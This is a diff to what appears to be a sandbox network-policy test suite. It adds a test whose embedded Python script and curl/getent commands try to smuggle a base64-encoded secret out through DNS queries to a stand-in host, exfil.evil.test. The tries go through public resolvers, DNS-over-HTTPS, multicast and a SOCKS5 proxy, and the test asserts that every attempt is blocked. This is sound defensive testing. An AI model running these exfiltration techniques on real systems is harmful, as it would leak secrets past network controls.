@@ -291,6 +291,62 @@ def test_class_43_a_name_is_not_looked_up_to_refuse_it(box, world):
     assert world.events() == []
 
 
+EXFIL = r"""
+import socket, struct
+NAME = "c2VjcmV0LXdvcmQ.exfil.evil.test"
+def question(name, kind):
+    q = b"\x12\x34\1\0\0\1\0\0\0\0\0\0"
+    for label in name.split("."): q += bytes([len(label)]) + label.encode()
+    return q + b"\0" + struct.pack("!HH", kind, 1)
+KINDS = (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 64, 65, 252, 255)
+NAMES = (NAME, NAME.upper(), "sub." + NAME, NAME + ".echo.test",
+         "c2VjcmV0LXdvcmQ.echo.test", "x" * 63 + ".echo.test")
+def tries():
+    s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(5)
+    for kind in KINDS:
+        for name in NAMES:
+            s.sendto(question(name, kind), ("127.0.0.1", 53))
+            yield s.recv(4096)
+    t = socket.create_connection(("127.0.0.1", 53), 5)
+    for name in NAMES:
+        q = question(name, 16)
+        t.sendall(struct.pack("!H", len(q)) + q)
+        yield t.recv(4096)[2:]
+for a in tries():
+    if a[3] & 15 != 3 or a[7]: print("answered", a)
+q = question(NAME, 16)
+for to, port in (("44.128.0.53", 53), ("8.8.8.8", 53), ("1.1.1.1", 853),
+                 ("224.0.0.251", 5353), ("224.0.0.252", 5355)):
+    try:
+        socket.socket(type=socket.SOCK_DGRAM).sendto(q, (to, port))
+        print("sent")
+    except OSError: pass
+    try:
+        t = socket.create_connection((to, port), 5)
+        t.sendall(struct.pack("!H", len(q)) + q)
+        if t.recv(16): print("answered")
+    except OSError: pass
+for head in (b"\5\1\0\3" + bytes([len(NAME)]) + NAME.encode() + b"\1\xbb",
+             b"\5\3\0\3" + bytes([len(NAME)]) + NAME.encode() + b"\0\x35"):
+    t = socket.create_connection(("127.0.0.1", 3128), 5)
+    t.sendall(b"\5\1\0"); t.recv(2); t.sendall(head)
+    if t.recv(16)[1] == 0: print("opened")
+"""
+
+
+def test_class_43_no_question_carries_a_secret_by_any_way(box, world):
+    """echo.test is allowed: nothing below it, and no kind but an address."""
+    r = box.exec("box", "python3", "-c", EXFIL, timeout=120)
+    assert r.code == 0 and r.out == "", r
+    box.sh("box", "for n in c2VjcmV0.echo.test echo.test; do for h in "
+           "\"-H Host:$n\" --doh-url=https://$n/dns-query; do "
+           "curl -m 5 -s $h https://echo.test/no >/dev/null; done; done; "
+           "LOCALDOMAIN=exfil.evil.test getent hosts c2VjcmV0; true")
+    names = {e["name"].lower() for e in world.events(event="dns")}
+    assert names <= {"echo.test"}, names
+    assert world.packets("8.8.8.8", "1.1.1.1") == []
+
+
 def test_class_45_a_whole_internet_of_addresses_is_refused(sh):
     for cidr in ("0.0.0.0/0", "::/0", "0.0.0.0/1"):
         p = sh.policy("network:\n  allow:\n    - endpoint: echo.test\n"
